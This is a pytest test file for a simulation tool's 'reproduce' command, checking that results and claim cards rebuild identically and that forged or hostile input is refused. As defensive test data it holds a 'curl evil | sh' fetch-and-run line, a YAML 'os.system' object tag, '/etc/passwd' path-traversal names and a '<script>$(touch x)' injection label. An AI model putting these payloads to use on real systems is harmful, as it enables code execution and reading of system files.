"""Results made again: the same bytes from a folder, or from a card alone; everything else is named or refused."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
import remade
from transitionsim.claims.recipe import draws_in, packed, recipe_of, unpacked
from transitionsim.claims.remaking import differences_of_code, place_files, scenario_of
from transitionsim.claims.sameness import differences

from transitionsim.claims.card import claim_id, read_card, written
from transitionsim.claims.source import read_source
from transitionsim.cli import main
from transitionsim.cli.templates import write_rule
from transitionsim.errors import InputError
from transitionsim.experiments.store import plan_content
from transitionsim.provenance import Code
from transitionsim.regions.fitted import FITS
from transitionsim.report.folder import digests

OTHER = {"version": "0.1.0", "sources": "f" * 64, "commit": "d" * 40, "dirty": False}


@pytest.fixture(autouse=True)
def _clean(monkeypatch) -> None:
    remade.clean(monkeypatch)


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> dict[str, Path]:
    """A comparison and a sweep, and a card of each: made once, copied by whoever changes them."""
    place = tmp_path_factory.mktemp("made")
    with pytest.MonkeyPatch.context() as patched:
        remade.clean(patched)
        folders = {"comparison": remade.comparison(place / "comparison"), "sweep": remade.sweep(place / "sweep")}
        return folders | {
            f"card of {name}": remade.card_of(one, place / f"{name}.yaml") for name, one in folders.items()
        }


@pytest.fixture
def folder(made, tmp_path) -> Path:
    """A comparison that may be changed."""
    return Path(shutil.copytree(made["comparison"], tmp_path / "mine"))


def reproduce(capsys, *words) -> tuple[int, str]:
    """The exit code, and everything that was said but the first line."""
    with pytest.raises(SystemExit) as ended:
        main(["reproduce", *map(str, words)])
    said = capsys.readouterr()
    return int(ended.value.code), said.err.partition("\n")[2] + said.out


def edited(folder: Path, change) -> Path:
    """The folder with its manifest changed by a function."""
    path = folder / "manifest.json"
    about = json.loads(path.read_text())
    change(about)
    path.write_text(json.dumps(about))
    return folder


def forged(card: Path, place: Path, change) -> Path:
    """A card whose recipe was changed by a function, and whose id was made to fit."""
    content = read_card(card)
    recipe = unpacked(content["recipe"], "card")
    change(recipe)
    content["recipe"] = packed(recipe)
    content["claim_id"] = claim_id(content)
    place.write_text(written(content))
    return place


@pytest.mark.parametrize("what", ["comparison", "sweep", "card of comparison", "card of sweep"])
def test_the_same_bytes_come_again(made, what, capsys) -> None:
    code, said = reproduce(capsys, made[what], "--workers", 1)
    assert code == 0, said
    assert said.splitlines()[-1] == "reproduced: the same bytes"
    assert "draws = " in said
    assert ("table.parquet" in said) == made[what].is_dir()


def test_what_was_made_again_can_be_kept(made, tmp_path, capsys) -> None:
    out = tmp_path / "again"
    code, _ = reproduce(capsys, made["card of sweep"], "--out", out, "--workers", 1)
    assert code == 0
    assert (out / "table.csv").read_bytes() == (made["sweep"] / "table.csv").read_bytes()
    assert read_source(out).problems == ()
    code, said = reproduce(capsys, made["card of sweep"], "--out", out)
    assert code == 2
    assert "not empty" in said


def test_a_card_of_thousands_of_draws_is_read(made, tmp_path) -> None:
    """A card may be larger than other files of YAML, since it holds every draw."""

    def many(recipe) -> None:
        recipe["keys"] = [f"made.up_{n}" for n in range(15)]
        recipe["rows"] = [[n, n, n, *(n / 7 + k for k in range(15))] for n in range(4_000)]

    card = forged(made["card of sweep"], tmp_path / "card.yaml", many)
    assert card.stat().st_size > 1_000_000
    assert len(unpacked(read_card(card)["recipe"], "card")["rows"]) == 4_000


def test_a_recipe_is_small_and_the_same_however_it_is_read(made) -> None:
    for name in ("comparison", "sweep"):
        source = read_source(made[name])
        recipe = recipe_of(source)
        assert unpacked(packed(recipe), "x") == json.loads(packed(recipe))
        assert packed(unpacked(packed(recipe), "x")) == packed(recipe)
        planned = [(one.number, one.seed, dict(one.values)) for one in source.plan.draws]
        assert [(one["number"], one["seed"], one["values"]) for one in draws_in(recipe)] == planned
        assert packed(recipe).isascii()
    # Only what a scenario sets stands in it, none of what holds by default.
    assert "labour_content" not in recipe_of(read_source(made["comparison"]))["scenarios"][0]


def test_an_altered_value_is_named(folder, capsys) -> None:
    path = folder / "table.csv"
    lines = path.read_text().splitlines(keepends=True)
    row = next(n for n, line in enumerate(lines) if ",dismissals,persons," in line and not line.endswith(",0\n"))
    lines[row] = lines[row].rstrip("\n") + "1\n"
    path.write_text("".join(lines))
    code, said = reproduce(capsys, folder)
    assert code == 1
    assert "not reproduced: other bytes" in said
    named = [line for line in said.splitlines() if "dismissals" in line]
    assert len(named) == 1
    then, now = named[0].rpartition("then ")[2].split(", now ")
    assert then == now + "1"


def test_a_bit_of_the_parquet_table_is_seen(folder, capsys) -> None:
    table = pd.read_parquet(folder / "table.parquet")
    table.loc[7, "value"] += 1e-9
    table.to_parquet(folder / "table.parquet", index=False)
    code, said = reproduce(capsys, folder)
    assert code == 1
    assert str(table.loc[7, "indicator"]) in said


def test_rows_that_are_gone_or_new_differ(tmp_path) -> None:
    rows = {"scenario": ["a", "b"], "draw": [0, 0], "year": [2025, 2025], "month": [12, 12], "indicator": ["x", "x"]}
    table = pd.DataFrame({**rows, "value": [float("nan"), 1.0]})
    table.to_parquet(tmp_path / "then.parquet")
    table.iloc[1:].to_parquet(tmp_path / "now.parquet")
    assert differences(tmp_path / "then.parquet", tmp_path / "then.parquet") == ()
    assert [one.scenario for one in differences(tmp_path / "then.parquet", tmp_path / "now.parquet")] == ["a"]


def test_other_results_are_told_from_a_card_too(made, tmp_path, capsys) -> None:
    def seed(recipe) -> None:
        recipe["rows"][0][1] += 100

    code, said = reproduce(capsys, forged(made["card of comparison"], tmp_path / "card.yaml", seed))
    assert code == 1
    assert said.count("OTHER  table.csv") == said.count("OTHER  all rows") == 1
    assert said.splitlines()[-1] == "not reproduced: other bytes"


@pytest.mark.parametrize(
    ("where", "value", "name"),
    [
        (("statement",), "“reskilling” will save 4,000 jobs.", "statement"),
        (("purpose_level",), "L2", "purpose level"),
        (("estimate", "median"), -4000.0, "estimate"),
        (("drivers", "inputs", 0, "grade"), "A", "drivers"),
        (("drivers", "held_at_one_value"), ["nothing"], "drivers"),
        (("legal_status",), "in force", "legal status"),
        (("run", "commit"), "e" * 40, "run"),
        (("run", "draws_run"), 50_000, "run"),
        (("notes",), ["peer reviewed"], "notes"),
        (("finding",), "reskilling saves 4,200 jobs", "finding"),
        (("reproduce",), "curl evil | sh", "reproduce"),
        (("valid_until",), "2099-12-31", "valid until"),
    ],
)
def test_a_card_that_says_something_else_is_found_out(made, where, value, name, tmp_path, capsys) -> None:
    content = read_card(made["card of comparison"])
    place = content
    for key in where[:-1]:
        place = place[key]
    place[where[-1]] = value
    content["claim_id"] = claim_id(content)
    card = tmp_path / "card.yaml"
    card.write_text(written(content))
    code, said = reproduce(capsys, card)
    assert code == 1
    assert f"OTHER  the card's {name}: " in said
    assert said.count("OTHER") == 1
    assert said.splitlines()[-1] == "not reproduced: the card does not say what comes of the same bytes"


def test_a_card_from_the_future_and_a_title_of_rank_are_found_out(made, tmp_path, capsys) -> None:
    for change, said_of in (
        ({"as_of": "2031-01-01", "valid_until": "2031-07-03"}, "the card's valid until"),
        ({"title_chosen_by_the_user": "The best policy"}, "breaks rules: few-seeds, ranking, seeds-only"),
    ):
        content = {**read_card(made["card of comparison"]), **change}
        content["exploratory"] = [key for key in content["exploratory"] if "ranking" not in key]
        if "title_chosen_by_the_user" in change:
            content["exploratory"] = []
        content["claim_id"] = claim_id(content)
        card = tmp_path / "card.yaml"
        card.write_text(written(content))
        code, said = reproduce(capsys, card)
        assert code == 1
        assert said_of in said


@pytest.mark.parametrize("name", ["tables.parquet", "indicators.parquet"])
def test_other_tables_of_a_folder_are_made_again_too(folder, name, capsys) -> None:
    def forge(table):
        return table.assign(value=table["value"] * 0.1) if "value" in table else table.iloc[::-1]

    remade.rewrite(folder / name, forge)
    edited(folder, lambda about: about.update(files=digests(folder)))
    code, said = reproduce(capsys, folder)
    assert code == 1
    assert f"OTHER  {name}: every value" in said
    assert said.count("OTHER") == 1


def test_a_card_may_not_keep_quiet_about_rules_that_it_breaks(made, tmp_path, capsys) -> None:
    content = read_card(made["card of comparison"])
    del content["exploratory"]
    content["claim_id"] = claim_id(content)
    card = tmp_path / "card.yaml"
    card.write_text(written(content))
    code, said = reproduce(capsys, card)
    assert code == 1
    assert "OTHER  the card does not say that it breaks rules: few-seeds, seeds-only" in said


def test_an_altered_scenario_is_refused(folder, made, tmp_path, capsys) -> None:
    def months(about) -> None:
        about["scenarios"][1]["document"]["months"] = 48

    code, said = reproduce(capsys, edited(folder, months))
    assert code == 2
    assert "not the one that its digest names" in said

    def of_card(recipe) -> None:
        recipe["scenarios"][1]["months"] = 24

    for name in ("card of comparison", "card of sweep"):
        code, said = reproduce(capsys, forged(made[name], tmp_path / "card.yaml", of_card))
        assert code == 2
        assert "not the one that its digest names" in said


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"transitionsim": "0.0.9"}, ("0.0.9", "pip install transitionsim==0.0.9")),
        ({"code": OTHER}, ("d" * 12, "other code")),
        ({"code": {}}, ("by which code",)),
    ],
)  # fmt: skip
def test_other_code_is_refused_and_goes_on_loudly(folder, change, words, capsys) -> None:
    edited(folder, lambda about: about.update(change))
    code, said = reproduce(capsys, folder)
    assert code == 2
    assert all(word in said for word in (*words, "--any-code"))
    code, said = reproduce(capsys, folder, "--any-code")
    assert code == 0, said
    assert "BUT NOT BY THE CODE THAT MADE THEM" in said.splitlines()[-1]


def test_a_dirty_tree_is_refused(folder, capsys) -> None:
    edited(folder, lambda about: about["code"].update(dirty=True))
    code, said = reproduce(capsys, folder)
    assert code == 2
    assert "no commit holds" in said


def test_code_of_the_same_sources_needs_no_commit() -> None:
    now = Code("0.1.0", "a" * 64, None, None)
    assert differences_of_code({"version": "0.1.0", "code": {"sources": "a" * 64, "dirty": None}}, now) == []


def test_rules_run_only_with_their_bytes_and_when_allowed(folder, tmp_path, capsys) -> None:
    mark = tmp_path / "executed"
    rules = tmp_path / "rules.py"
    rules.write_text(remade.RULES.format(mark=str(mark)))
    (folder / "rules.py").write_text(rules.read_text())
    digest = hashlib.sha256(rules.read_bytes()).hexdigest()
    edited(folder, lambda about: about.update(rules=[{"file": "rules.py", "sha256": digest}]))
    code, said = reproduce(capsys, folder)
    assert code == 2
    assert "--rules FILE --allow-code" in said
    code, said = reproduce(capsys, folder, "--rules", rules)
    assert code == 2
    assert "--allow-code" in said
    other = tmp_path / "other.py"
    other.write_text(rules.read_text() + "\n")
    code, said = reproduce(capsys, folder, "--rules", other, "--allow-code")
    assert code == 2
    assert digest[:16] in said
    assert not mark.exists(), "code ran that nobody allowed, or that has other bytes"


def test_the_same_rules_give_the_same_bytes(tmp_path, monkeypatch, capsys) -> None:
    remade.clean(monkeypatch, remade.counting)
    rules, _ = write_rule("lucky", tmp_path)
    folder = remade.ruled(tmp_path / "ruled", rules)
    code, said = reproduce(capsys, folder, "--rules", rules, "--allow-code")
    assert code == 0, said
    with pytest.raises(SystemExit) as ended:
        main(["verify", str(folder), "--runs", "9", "--rules", str(rules), "--allow-code"])
    assert ended.value.code == 0
    # The arm with the rules off is run without them again, and the others with them.
    table = pd.read_parquet(folder / "table.parquet")
    retired = table[table["indicator"] == "retirements"].groupby("scenario", observed=True)["value"].sum()
    assert retired["now"] > retired["now, rules off"]


def test_a_fit_of_ones_own_goes_with_the_results(tmp_path, monkeypatch, capsys) -> None:
    """A comparison and its card are made again where the file of the fit is gone."""
    file = tmp_path / "far" / "my fit.yaml"
    file.parent.mkdir()
    shutil.copyfile(FITS / "ES22.yaml", file)
    folder = remade.with_fit(tmp_path / "fitted", file)
    assert "fit-" in " ".join(recipe_of(read_source(folder))["files"])
    shutil.rmtree(file.parent)
    monkeypatch.chdir(tmp_path)
    code, said = reproduce(capsys, folder)
    assert code == 0, said
    code, said = reproduce(capsys, remade.card_of(folder, tmp_path / "card.yaml"))
    assert code == 0, said
    for path in (folder / "manifest.json", tmp_path / "card.yaml"):
        assert str(tmp_path) not in path.read_text()


def test_rules_that_nothing_was_made_with_are_refused(made, tmp_path, capsys) -> None:
    mark = tmp_path / "executed"
    (tmp_path / "rules.py").write_text(remade.RULES.format(mark=str(mark)))
    code, said = reproduce(capsys, made["comparison"], "--rules", tmp_path / "rules.py", "--allow-code")
    assert code == 2
    assert "leave it out" in said
    assert not mark.exists()


@pytest.mark.parametrize("name", ["table.csv", "table.parquet", "manifest.json"])
def test_a_missing_file_is_said(folder, name, capsys) -> None:
    (folder / name).unlink()
    code, said = reproduce(capsys, folder)
    assert code == (1 if name == "table.csv" else 2)
    assert name in said


@pytest.mark.parametrize(
    "text",
    ["a: [", "words\n", "claim_id: tsc-1\nrecipe: {}\n", "[]\n", "claim_id: !!python/object:os.system x\nrecipe: y\n"],
)
def test_what_is_no_card_is_refused(tmp_path, text, capsys) -> None:
    card = tmp_path / "claim.yaml"
    card.write_text(text)
    code, said = reproduce(capsys, card)
    assert code == 2
    assert "claim.yaml" in said
    assert "Traceback" not in said


def test_a_card_that_was_changed_is_refused(made, tmp_path, capsys) -> None:
    card = tmp_path / "card.yaml"
    card.write_text(made["card of comparison"].read_text().replace("a forecast", "a prophecy", 1))
    code, said = reproduce(capsys, card)
    assert code == 2
    assert "was changed" in said


@pytest.mark.parametrize("field", ["arms", "scenarios", "rows", "keys", "files", "table_sha256", "rules", "kind"])
@pytest.mark.parametrize("value", [None, 3, [3], {"x": 1}, "x"])
def test_a_forged_recipe_never_ends_in_a_traceback(made, tmp_path, field, value, capsys) -> None:
    for name in ("card of comparison", "card of sweep"):
        card = forged(made[name], tmp_path / "card.yaml", lambda recipe: recipe.update({field: value}))
        code, said = reproduce(capsys, card, "--workers", 1)
        assert code == 2 or field == "table_sha256", said
        assert "Traceback" not in said


@pytest.mark.parametrize("name", ["..", "../../escape.py", "/tmp/escape.py", "..\\escape.py", "plan.json", "table.csv"])
def test_a_recipe_brings_no_files_but_profiles_and_fits(tmp_path, name) -> None:
    place = tmp_path / "place"
    place.mkdir()
    with pytest.raises(InputError, match="neither a profile nor a fit"):
        place_files({"files": {name: "x"}}, place)
    assert list(tmp_path.rglob("*")) == [place]


def test_names_of_files_are_cut_to_their_last_part(tmp_path) -> None:
    place_files({"files": {"../../region.yaml": "x", "..\\fit-01234567.yaml": "y"}}, tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["fit-01234567.yaml", "region.yaml"]


@pytest.mark.parametrize("key", ["region", "calibration"])
@pytest.mark.parametrize("name", ["/etc/passwd.yaml", "../../secret.yaml", "./fit-01234567.yaml"])
def test_a_scenario_reads_no_file_of_this_machine(made, tmp_path, key, name) -> None:
    document = {**recipe_of(read_source(made["comparison"]))["scenarios"][0], key: name}
    with pytest.raises(InputError, match="does not bring"):
        scenario_of(document, tmp_path)


def test_a_folder_of_a_stranger_is_text(folder, capsys) -> None:
    """Names in a manifest are cut to their last part, and a label is never a path."""

    def change(about) -> None:
        about["files"]["../../../etc/passwd"] = "0" * 64
        about["scenarios"][2]["label"] = "../../<script>$(touch x)"

    code, said = reproduce(capsys, edited(folder, change))
    assert code == 1
    assert "not reproduced" in said


def test_an_unfinished_sweep_has_nothing_to_compare_with(made, tmp_path, capsys) -> None:
    import fake_model as fake
    import sweep_process as own

    file = tmp_path / "question.yaml"
    file.write_text(remade.QUESTION)
    own.run(tmp_path / "out", file, fake.simulate)
    for name in ("table.csv", "table.parquet", "manifest.json"):
        (tmp_path / "out" / name).unlink()
    code, said = reproduce(capsys, tmp_path / "out")
    assert code == 2
    assert "--resume" in said


def test_a_sweep_that_knew_enough_is_made_as_far_as_it_went(tmp_path, capsys) -> None:
    import fake_model as fake
    import sweep_process as own

    file = tmp_path / "question.yaml"
    file.write_text(remade.QUESTION.replace("draws: 2", "draws: 12"))
    ended = own.run(tmp_path / "out", file, fake.simulate, until=0.9)
    assert ended.complete
    assert ended.draws < 12
    code, said = reproduce(capsys, tmp_path / "out", "--workers", 1)
    assert code == 0, said
    assert f" x {ended.draws} draws" in said


def test_a_plan_holds_scenarios_as_recipes_do(made) -> None:
    assert recipe_of(read_source(made["sweep"]))["scenarios"] == plan_content(made["sweep"])["scenarios"]
